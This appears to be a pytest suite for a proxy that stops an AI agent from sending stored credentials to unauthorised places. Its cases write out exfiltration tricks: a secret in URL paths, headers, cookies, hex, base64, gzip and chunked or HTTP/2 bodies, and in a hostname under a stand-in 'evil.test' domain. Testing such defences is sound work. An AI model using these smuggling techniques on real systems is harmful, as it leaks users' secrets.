"""A secret by the agent's own hand, and stand-ins out of place, over the wire."""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
from collections.abc import Callable, Mapping
from pathlib import Path
from urllib.parse import quote

import pytest

from ghost_addons import leak
from ghost_addons.action import Action
from ghost_addons.hidden import Secrets
from ghost_addons.record import Attempt
from ghost_addons.refusal import Refusal
from ghost_core.secret import SecretBytes
from ghost_credentials.scrub import Scrubber
from ghost_hooks.request import Verdict
from support.agent import Answer, raw_connect, secure_connect
from support.agent2 import Http2Client, StreamResetError
from support.certs import Certs
from support.files import contents
from support.home import PLACEHOLDER, SECRET
from support.live import LiveProxy, LiveSession, live_proxy, until
from support.packed import gzipped
from support.upstream import Upstream

JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
FULL = "".join(f"%{byte:02x}" for byte in SECRET.encode())
BASIC = base64.b64encode(f"user:{SECRET}".encode()).decode()


def sent(
    proxy: LiveProxy,
    session: LiveSession,
    up: Upstream,
    *,
    path: str = "/echo",
    headers: Mapping[str, str] | None = None,
    body: bytes = b"",
) -> Answer:
    with secure_connect(proxy.port, up.authority, session.auth, ca=proxy.ca) as tunnel:
        return tunnel.request("POST", path, {"Host": up.authority, **(headers or {})}, body)


def nowhere(proxy: LiveProxy) -> bool:
    """Tell whether no form of the secret is in the files of the home, but for its own."""
    scrubber = Scrubber([SecretBytes(SECRET.encode())])
    return not any(map(scrubber.holds, contents(proxy.home.root, but="demo.secret").values()))


@pytest.mark.parametrize(
    ("path", "headers", "body"),
    [
        (f"/echo/{SECRET}", {}, b"{}"),
        (f"/echo?k={FULL}", {}, b"{}"),
        ("/echo", {"X-Other": f"Bearer {SECRET}"}, b"{}"),
        ("/echo", {"X-Other": SECRET.encode().hex()}, b"{}"),
        ("/echo", {f"X-{SECRET}": "1"}, b"{}"),
        ("/echo", {"X-Api-Key": SECRET}, b"{}"),
        ("/echo", {"Cookie": f"k={SECRET}"}, b"{}"),
        ("/echo", {"X-Other": f"Basic {BASIC}"}, b"{}"),
        ("/echo", JSON, json.dumps({"text": f"it is {SECRET}"}).encode()),
        ("/echo", FORM, f"k={quote(SECRET)}".encode()),
        ("/echo", {**JSON, "Content-Encoding": "gzip"}, gzipped(SECRET.encode() * 3)),
    ],
)
def test_a_secret_of_ours_by_the_agents_hand_is_refused_and_entered_by_name(
    path: str, headers: Mapping[str, str], body: bytes, proxy: LiveProxy, up: Upstream
) -> None:
    session = proxy.spawn("demo_api")
    answer = sent(proxy, session, up, path=path, headers=headers, body=body)
    assert (answer.status, b"credential.leaked" in answer.body) == (403, True)
    denied = proxy.last(session)
    assert (denied.type, denied.fields["error"]) == ("action.denied", "credential.leaked")
    assert (denied.fields["stage"], denied.fields["rule"]) == ("credential", "credential:demo")
    assert up.connections == 0
    assert nowhere(proxy)


def test_the_place_of_the_credential_itself_is_no_leak(
    proxy: LiveProxy, session: LiveSession, up: Upstream
) -> None:
    headers = {"Authorization": f"Bearer {SECRET}"}
    assert sent(proxy, session, up, headers=headers, body=b"{}").status == 200
    assert up.requests[0].all("authorization") == (f"Bearer {SECRET}".encode(),)


@pytest.mark.parametrize("headers", [{"Authorization": f"Bearer {SECRET}"}, {"X-A": SECRET}])
def test_a_secret_on_its_way_to_another_host_is_refused(
    headers: dict[str, str], tmp_path: Path, certs: Certs, up: Upstream
) -> None:
    with Upstream(certs) as other:
        allowed = {"allow_private": [up.authority, other.authority]}
        with live_proxy(tmp_path, certs, up, proxy=allowed) as live:
            session = live.spawn(f"POST {other.url}/**")
            answer = sent(live, session, other, headers=headers, body=b"{}")
            assert live.last(session).fields["error"] == "credential.leaked"
        assert (answer.status, other.connections) == (403, 0)


def test_a_secret_in_a_call_that_no_scope_allows_is_told_as_a_leak(
    tmp_path: Path, certs: Certs, up: Upstream
) -> None:
    with Upstream(certs) as other:
        allowed = {"allow_private": [up.authority, other.authority]}
        with live_proxy(tmp_path, certs, up, proxy=allowed) as live:
            session = live.spawn("demo_api", f"GET {other.url}/**")
            elsewhere = sent(live, session, other, headers={"X-A": SECRET}, body=b"{}")
            assert b"credential.leaked" in elsewhere.body
            plain = sent(live, session, other, body=b"{}")
            assert b"scope.action" in plain.body
        assert other.connections == 0


def test_a_credential_that_was_added_meanwhile_is_watched_from_the_next_call(
    proxy: LiveProxy, session: LiveSession, up: Upstream
) -> None:
    (proxy.home.root / "added").write_text("added-secret-4242")
    with secure_connect(proxy.port, up.authority, session.auth, ca=proxy.ca) as tunnel:
        headers = {"Host": up.authority, "X-A": "added-secret-4242"}
        assert tunnel.request("POST", "/status/200", headers, b"{}").status == 200
        proxy.home.append(
            f'[credentials.added]\nsecret = "file:{proxy.home.root}/added"\nhosts = ["a.example"]'
        )
        assert tunnel.request("POST", "/status/200", headers, b"{}").status == 403
    assert proxy.last(session).fields["rule"] == "credential:added"


def test_no_resolver_hears_a_host_name_that_says_a_secret(proxy: LiveProxy) -> None:
    session = proxy.spawn("GET https://*.evil.test:8443/**")
    name = f"{SECRET.lower()}.evil.test:8443"
    with raw_connect(proxy.port, name, session.auth) as tunnel:
        assert tunnel.connected is not None
        assert tunnel.connected.header("x-ghost-reason") == b"credential.leaked"
    assert proxy.last(session).fields["error"] == "credential.leaked"


def test_a_host_name_that_says_a_secret_is_not_recorded(
    proxy: LiveProxy, session: LiveSession
) -> None:
    name = f"{SECRET.lower()}.evil.test:8443"
    with raw_connect(proxy.port, name, session.auth) as tunnel:
        assert tunnel.status == 403
        assert tunnel.connected is not None
        assert SECRET.lower().encode() not in tunnel.connected.body
    assert "[redacted by ghost]" in proxy.last(session).fields["host"]
    assert nowhere(proxy)


@pytest.mark.parametrize("coding", ["", "gzip"])
def test_an_upload_is_cut_before_a_secret_is_complete(
    coding: str, proxy: LiveProxy, session: LiveSession, up: Upstream
) -> None:
    body = b"x" * 2_000_000 + SECRET.encode() + b"y" * 1_000_000
    if coding:
        body = gzip.compress(body, compresslevel=0)
    headers = {"Host": up.authority, "Content-Type": "text/plain"}
    headers |= {"Content-Encoding": coding} if coding else {}
    with secure_connect(proxy.port, up.authority, session.auth, ca=proxy.ca) as tunnel:
        with contextlib.suppress(OSError):  # the rest of it is not taken any more
            tunnel.begin("POST", "/echo", headers, body)
        assert tunnel.closed()
    (outcome,) = proxy.wait_for(session, 1, "action.outcome")
    assert (outcome.fields["error"], outcome.fields["ended"]) == ("credential.leaked", "aborted")
    until(lambda: up.requests)
    (record,) = up.requests
    assert not record.complete
    assert SECRET.encode() not in record.body
    assert nowhere(proxy)


def test_the_end_of_a_chunked_upload_with_a_secret_never_comes(
    proxy: LiveProxy, session: LiveSession, up: Upstream
) -> None:
    headers = {"Host": up.authority, "Transfer-Encoding": "chunked"}
    with secure_connect(proxy.port, up.authority, session.auth, ca=proxy.ca) as tunnel:
        tunnel.begin("POST", "/echo", headers)
        half = SECRET[:9].encode()
        tunnel.send(b"6\r\nfirst\n\r\n9\r\n" + half + b"\r\n")
        up.wait_until(lambda: up._body_bytes >= 6, "the first chunk")
        rest = SECRET[9:].encode()
        tunnel.send(b"%x\r\n%s\r\n0\r\n\r\n" % (len(rest), rest))
        assert tunnel.closed()
    until(lambda: up.requests)
    (record,) = up.requests
    assert (record.complete, record.body) == (False, b"first\n")
    (outcome,) = proxy.wait_for(session, 1, "action.outcome")
    assert (outcome.fields["error"], outcome.fields["sent"]) == ("credential.leaked", 6)


def test_a_short_secret_hides_no_longer_one_that_begins_in_it(
    action_of: Callable[..., Action], secrets: Secrets
) -> None:
    secrets.hide(SecretBytes(b"pin"), owner="short")
    secrets.hide(SecretBytes(b"in-4242424242"), owner="long")
    outflow = leak.Outflow(secrets, action_of(), b"")
    assert outflow.feed(b"a\nsay pin-42") == b"a\n"
    with pytest.raises(leak.LeakedError, match="long"):
        outflow.feed(b"42424242")


def test_an_upload_with_the_beginning_of_a_secret_arrives_whole(
    proxy: LiveProxy, session: LiveSession, up: Upstream
) -> None:
    body = b"x" * 2_000_000 + SECRET[:12].encode()
    assert sent(proxy, session, up, path="/status/200", body=body).status == 200
    assert up.requests[0].body == body


@pytest.mark.parametrize(
    ("path", "headers", "body"),
    [
        (f"/echo?k={PLACEHOLDER}", {}, b"{}"),
        (f"/echo/{PLACEHOLDER}", {}, b"{}"),
        ("/echo", {"X-Other": PLACEHOLDER}, b"{}"),
        ("/echo", JSON, json.dumps({"token": PLACEHOLDER}).encode()),
        ("/echo", FORM, f"a=1&token={PLACEHOLDER}".encode()),
    ],
)
def test_a_placeholder_where_its_binding_does_not_name_it_is_refused(
    path: str, headers: Mapping[str, str], body: bytes, proxy: LiveProxy, up: Upstream
) -> None:
    session = proxy.spawn("demo_api")
    answer = sent(proxy, session, up, path=path, headers=headers, body=body)
    assert (answer.status, b"credential.stray" in answer.body) == (403, True)
    denied = proxy.last(session)
    assert (denied.type, denied.fields["rule"]) == ("action.denied", "credential:demo")
    assert up.connections == 0


def test_a_body_that_talks_about_a_placeholder_passes_with_a_flag(
    proxy: LiveProxy, session: LiveSession, up: Upstream
) -> None:
    body = json.dumps({"text": f"my variable says {PLACEHOLDER}"}).encode()
    assert sent(proxy, session, up, headers=JSON, body=body).status == 200
    assert proxy.last(session).fields["flags"] == ["placeholder"]


def test_a_body_whose_coding_cannot_be_undone_passes_with_a_flag(
    proxy: LiveProxy, session: LiveSession, up: Upstream
) -> None:
    for coding, body in (("x-odd", b"raw"), ("gzip", b"no gzip"), ("x-odd", b"x" * 2_000_000)):
        headers = {"Content-Encoding": coding, "Content-Type": "text/plain"}
        assert (
            sent(proxy, session, up, path="/status/200", headers=headers, body=body).status == 200
        )
        assert proxy.last(session).fields["flags"] == ["uninspected"]


def test_what_is_entered_and_answered_quotes_no_secret() -> None:
    scrubber = Scrubber([SecretBytes(SECRET.encode())])
    verdict = Verdict.no("scope", SECRET, f"path /{SECRET}", code="scope.action")
    attempt = Attempt("gh_1", SECRET, f"{SECRET.lower()}.test", tool=SECRET, verdicts=(verdict,))
    refusal = Refusal(403, "x", f"no {SECRET}", "scope", rule=SECRET, hint=f"not {SECRET}")
    clean = repr((leak.clean_attempt(attempt, scrubber), leak.clean_refusal(refusal, scrubber)))
    assert not scrubber.holds(clean.encode())
    assert clean.count("[redacted by ghost]") == 8


def test_an_upload_over_http_2_is_cut_too(tmp_path: Path, certs: Certs) -> None:
    with (
        Upstream(certs, alpn=("h2", "http/1.1")) as up,
        live_proxy(tmp_path, certs, up) as proxy,
    ):
        session = proxy.spawn("demo_api")
        options = {"ca": proxy.ca, "alpn": ("h2",)}
        with secure_connect(proxy.port, up.authority, session.auth, **options) as tunnel:
            client = Http2Client(tunnel)
            stream = client.begin("POST", "/echo", up.authority, body=f"k={SECRET}".encode())
            with pytest.raises((OSError, EOFError, StreamResetError)):
                client.answer(stream)
        (outcome,) = proxy.wait_for(session, 1, "action.outcome")
        assert outcome.fields["error"] == "credential.leaked"
        assert all(not each.complete and SECRET.encode() not in each.body for each in up.requests)
        assert nowhere(proxy)
